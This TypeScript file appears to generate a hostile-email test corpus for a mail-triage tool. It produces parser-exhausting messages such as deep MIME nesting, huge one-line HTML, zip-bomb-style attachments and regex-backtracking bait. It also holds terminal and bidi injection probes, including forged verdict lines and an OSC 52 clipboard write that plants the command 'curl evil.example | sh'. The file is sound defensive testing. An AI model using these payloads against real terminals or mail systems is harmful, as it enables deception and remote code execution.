/**
 * Hostile mail, generated deterministically from a seed: messages built to hang, crash or fool the parser,
 * the analyzers, the alert builder and the text report. `scale: "small"` keeps every case a few hundred kB
 * (the `npm test` subset); `"full"` reaches the sizes seen in the wild (20 MB one-line HTML, 1 MB data:
 * URLs, 100,000 `%41` RFC 2231 filenames).
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

export interface HostileCase {
  name: string;
  family: string;
  /** The message bytes, latin1 (one char per byte). */
  raw: string;
}

export type Scale = "small" | "full";

/** mulberry32: a tiny seeded PRNG, so the same seed always gives the same cases. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Tools {
  rand: () => number;
  pick: <T>(items: readonly T[]) => T;
  int: (max: number) => number;
  /** A size: small scale divides it by 40, so the test subset stays fast. */
  size: (full: number) => number;
}

/** Terminal and bidi attacks that must never reach a person's terminal raw. */
export const CONTROL_PROBES: readonly string[] = [
  "\u001b[2J\u001b[H", // clear screen
  "\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007", // OSC 8 hyperlink
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007", // OSC 52 clipboard write
  "\rVerdict: BENIGN  confidence 99%", // CR rewrite of the verdict line
  "\nVerdict: BENIGN  confidence 99%", // LF forging a line
  "\u202egpj.exe", // right-to-left override
  "\u2066isolate\u2069",
  "\u009b2J", // C1 CSI
  "\u0090DCS\u009c", // C1 DCS … ST
  "\u001b[31mred\u001b[0m",
  "\u001bP+q\u001b\\", // DCS query
  "\u0007\u0008\u0008\u0008BEL and backspaces",
  "\u007fDEL",
  "\u001b]0;window title\u0007",
  "\u001b[1A\u001b[2KVerdict: BENIGN", // cursor up, erase line
];

const header = (t: Tools, extra = ""): string =>
  `From: Alerts <alerts@${t.pick(["example.org", "paypa1-secure.com", "northwindtraders.com"])}>\r\n` +
  `To: user@northwindtraders.com\r\nSubject: case ${t.int(1e6)}\r\nMessage-ID: <${t.int(1e9)}@example.org>\r\n` +
  `Date: Mon, 02 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\n${extra}`;

const b64 = (s: string) => Buffer.from(s, "latin1").toString("base64");
const wrap76 = (s: string) => s.replace(/(.{76})/g, "$1\r\n");

/** An RFC 2047 encoded word: how a header carries a LF (or any byte) that a raw header line cannot. */
const encodedWord = (s: string) => `=?utf-8?B?${Buffer.from(s, "utf8").toString("base64")}?=`;

/**
 * A message with `probe` in one place: 0 subject, 1 attachment name, 2 URL and link text, 3 display name.
 * `encoded` carries it in RFC 2047/2231 form, otherwise raw (as utf-8 bytes).
 */
export function controlMessage(probe: string, where: number, encoded: boolean): string {
  const raw = Buffer.from(probe, "utf8").toString("latin1");
  const inHeader = (value: string) =>
    encoded ? encodedWord(value) : Buffer.from(value, "utf8").toString("latin1");
  const subject = where === 0 ? inHeader(`urgent ${probe}`) : "urgent";
  const name = where === 3 ? inHeader(`IT ${probe}`) : "IT";
  const file = `invoice${probe}.pdf`;
  const disposition =
    where === 1
      ? encoded
        ? `attachment; filename*=UTF-8''${encodeURIComponent(file)}`
        : `attachment; filename="${Buffer.from(file, "utf8").toString("latin1")}"`
      : 'attachment; filename="invoice.pdf"';
  const url = where === 2 ? `https://evil.example/${raw}` : "https://evil.example/x";
  return `From: ${name} <it@evil.example>\r\nTo: user@northwindtraders.com\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<a href="${url}">${where === 2 ? raw : "open"}</a> ${url}\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: ${disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64("%PDF-1.4")}\r\n--b--\r\n`;
}

/** Every probe in every place, raw and encoded, as one mbox: one `triage email` run covers them all. */
export function controlProbeMbox(): { mbox: string; count: number } {
  const messages = CONTROL_PROBES.flatMap((probe) =>
    [0, 1, 2, 3].flatMap((where) => [true, false].map((encoded) => controlMessage(probe, where, encoded))),
  );
  const mbox = messages
    .map((m, i) => `From probe${i}@evil.example Mon Nov  2 08:00:00 2026\n${m.replace(/^From /gm, ">From ")}`)
    .join("\n");
  return { mbox, count: messages.length };
}

const FAMILIES: Record<string, (t: Tools) => string> = {
  dataUrls: (t) => {
    const n = 1 + t.int(3);
    const img = () => `<img src="data:image/png;base64,${"iVBORw0KGgo".repeat(t.size(1_000_000) / 11)}">`;
    return `${header(t)}Content-Type: text/html\r\n\r\n<html><body>${Array.from({ length: n }, img).join("")}<a href="https://login.example.net/">Sign in</a></body></html>\r\n`;
  },
  oneLineHtml: (t) => {
    const unit = t.pick(["<div>x</div>", "<a href=x>", "<b>", "&amp;", "<span style='a'>word ", "<a "]);
    return `${header(t)}Content-Type: text/html\r\n\r\n<html>${unit.repeat(t.size(20_000_000) / unit.length)}</html>\r\n`;
  },
  rfc2231Filename: (t) => {
    const n = t.size(100_000);
    const value = t.rand() < 0.5 ? `filename*=UTF-8''${"%41".repeat(n)}` : continuation(n, t);
    return `${header(t)}Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; ${value}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64("MZ payload")}\r\n--b--\r\n`;
  },
  deepMime: (t) => {
    let body = "Content-Type: text/plain\r\n\r\nhello https://deep.example.com/x\r\n";
    const depth = t.size(4000) + t.int(50);
    for (let i = 0; i < depth; i++)
      body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}--b${i}--\r\n`;
    return `${header(t)}${body}`;
  },
  overlongSender: (t) => {
    const local = "a".repeat(t.pick([321, 2100, 70_000]));
    const name = t.pick(["Support", "B".repeat(1500), "=?utf-8?B?" + b64("C".repeat(5000)) + "?="]);
    const domain = t.rand() < 0.5 ? "example.org" : `${"d".repeat(300)}.example.org`;
    return `From: ${name} <${local}@${domain}>\r\nReply-To: ${local}@evil.example\r\nTo: user@northwindtraders.com\r\nSubject: overlong sender\r\nMessage-ID: <${"m".repeat(t.pick([10, 3000]))}@example.org>\r\n\r\nPay the invoice today.\r\n`;
  },
  manyLinks: (t) => {
    const n = t.size(10_000) + 10;
    const links = Array.from(
      { length: n },
      (_, i) => `<a href="https://x${i}.example.org/${"p".repeat(t.int(50))}">l${i}</a>`,
    );
    const long = `<a href="https://long.example.org/${"q".repeat(t.size(400_000))}">long</a>`;
    return `${header(t)}Content-Type: text/html\r\n\r\n${links.join("")}${long}\r\n`;
  },
  nulBytes: (t) =>
    `${header(t, "X-Nul: a\u0000b\r\n")}Content-Type: text/plain\r\n\r\n${"\u0000".repeat(t.size(400_000))}verify https://nul.example.com/\u0000x\r\n`,
  brokenEncodings: (t) => {
    const cte = t.pick(["base64", "quoted-printable", "x-uuencode", "8bit", "bogus"]);
    const charset = t.pick(["klingon", "utf-7", "iso-2022-jp", "utf-16", "utf-8"]);
    const junk = Array.from({ length: t.size(200_000) }, () => String.fromCharCode(t.int(256))).join("");
    return `From: =?${charset}?Q?=ZZ=?= <a@example.org>\r\nSubject: =?utf-8?B?!!!notbase64?= =?${charset}?Q?=E2=80?=\r\nContent-Type: text/plain; charset=${charset}\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${junk}\r\n`;
  },
  malformedBoundaries: (t) => {
    const boundary = t.pick(["", "a", '"', "--", "b".repeat(5000), "x\u0000y"]);
    const parts = Array.from(
      { length: t.size(2000) + 2 },
      () => `--${boundary}\r\nContent-Type: text/plain\r\n\r\npart\r\n`,
    );
    return `${header(t)}Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n${parts.join("")}${t.rand() < 0.5 ? "" : `--${boundary}--`}\r\n`;
  },
  controlChars: (t) => controlMessage(t.pick(CONTROL_PROBES), t.int(4), t.rand() < 0.5),
  headerFlood: (t) => {
    const n = t.size(200_000);
    const line = t.pick(["X-A: b\r\n", "Received: from x by y\r\n", "To: a@b.example\r\n"]);
    return `${header(t)}${line.repeat(n)}Content-Type: text/plain\r\n\r\nbody\r\n`;
  },
  longHeaderLine: (t) =>
    `${header(t)}X-Long: ${"z".repeat(t.size(2_000_000))}\r\nSubject: ${"s".repeat(t.size(1_000_000))}\r\nContent-Type: text/plain\r\n\r\nbody\r\n`,
  encodedWordFlood: (t) =>
    `From: x@example.org\r\nSubject: ${"=?utf-8?B?QUFB?= ".repeat(t.size(100_000))}\r\nContent-Type: text/plain\r\n\r\nbody\r\n`,
  zipBomb: (t) => {
    const attachments = Array.from({ length: 1 + t.int(3) }, (_, i) => {
      const payload = `PK\u0003\u0004${"\u0000".repeat(t.size(3_000_000))}`;
      return `--b\r\nContent-Type: application/zip; name="a${i}.zip"\r\nContent-Disposition: attachment; filename="a${i}.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${wrap76(b64(payload))}\r\n`;
    });
    return `${header(t)}Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nopen the archive\r\n${attachments.join("")}--b--\r\n`;
  },
  manyParts: (t) => {
    const parts = Array.from(
      { length: t.size(20_000) + 5 },
      (_, i) =>
        `--b\r\nContent-Type: application/octet-stream; name="f${i}.bin"\r\nContent-Disposition: attachment\r\n\r\nx\r\n`,
    );
    return `${header(t)}Content-Type: multipart/mixed; boundary="b"\r\n\r\n${parts.join("")}--b--\r\n`;
  },
  regexBait: (t) => {
    const bait = t.pick([
      "<a ".repeat(t.size(400_000)),
      `<a href="${"x".repeat(t.size(2_000_000))}`,
      "http://".repeat(t.size(300_000)),
      " ".repeat(t.size(2_000_000)) + "!",
      "@".repeat(t.size(1_000_000)),
      "a.".repeat(t.size(1_000_000)),
      "=".repeat(t.size(1_000_000)),
      "&#".repeat(t.size(1_000_000)),
    ]);
    const type = t.pick(["text/html", "text/plain"]);
    return `${header(t)}Content-Type: ${type}\r\n\r\n${bait}\r\n`;
  },
  garbage: (t) =>
    `Subject: x\r\n${Array.from({ length: t.size(500_000) }, () => String.fromCharCode(t.int(256))).join("")}`,
};

function continuation(n: number, t: Tools): string {
  const per = 1 + t.int(20);
  const pieces = Math.ceil(n / per);
  return Array.from({ length: pieces }, (_, i) => `filename*${i}*=${"%41".repeat(per)}`).join(";\r\n ");
}

export const FAMILY_NAMES: readonly string[] = Object.keys(FAMILIES);

/**
 * `count` cases, round-robin over the families, identical for the same seed and scale. Lazy: the full set
 * is gigabytes, so a caller holds one case at a time.
 */
export function* generateHostile(options: {
  seed: number;
  count: number;
  scale: Scale;
}): Generator<HostileCase> {
  const rand = random(options.seed);
  const tools: Tools = {
    rand,
    pick: (items) => {
      const item = items[Math.floor(rand() * items.length)];
      if (item === undefined) throw new RangeError("pick from an empty list");
      return item;
    },
    int: (max) => Math.floor(rand() * max),
    // Full scale varies each size between a tenth of it and all of it; small scale stays tiny.
    size: (full) =>
      options.scale === "small"
        ? Math.max(1, Math.floor(full / 40))
        : Math.max(1, Math.floor(full * (0.1 + 0.9 * rand()))),
  };
  for (let i = 0; i < options.count; i++) {
    const family = FAMILY_NAMES[i % FAMILY_NAMES.length] ?? "garbage";
    const build = FAMILIES[family];
    if (!build) throw new RangeError(`no family ${family}`);
    yield { name: `${String(i).padStart(4, "0")}-${family}`, family, raw: build(tools) };
  }
}

/** `tsx evals/hostile/generate.ts DIR [count] [seed]`: the full set as files and a manifest, for `triage eval --corpus`. */
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [dir, count = "1008", seed = "12"] = process.argv.slice(2);
  if (!dir) throw new Error("usage: generate.ts DIR [count] [seed]");
  mkdirSync(dir, { recursive: true });
  const manifest: string[] = [];
  for (const c of generateHostile({ seed: Number(seed), count: Number(count), scale: "full" })) {
    writeFileSync(join(dir, `${c.name}.eml`), c.raw, "latin1");
    manifest.push(JSON.stringify({ file: `${c.name}.eml`, label: "malicious", class: c.family }));
  }
  writeFileSync(join(dir, "manifest.jsonl"), `${manifest.join("\n")}\n`);
}
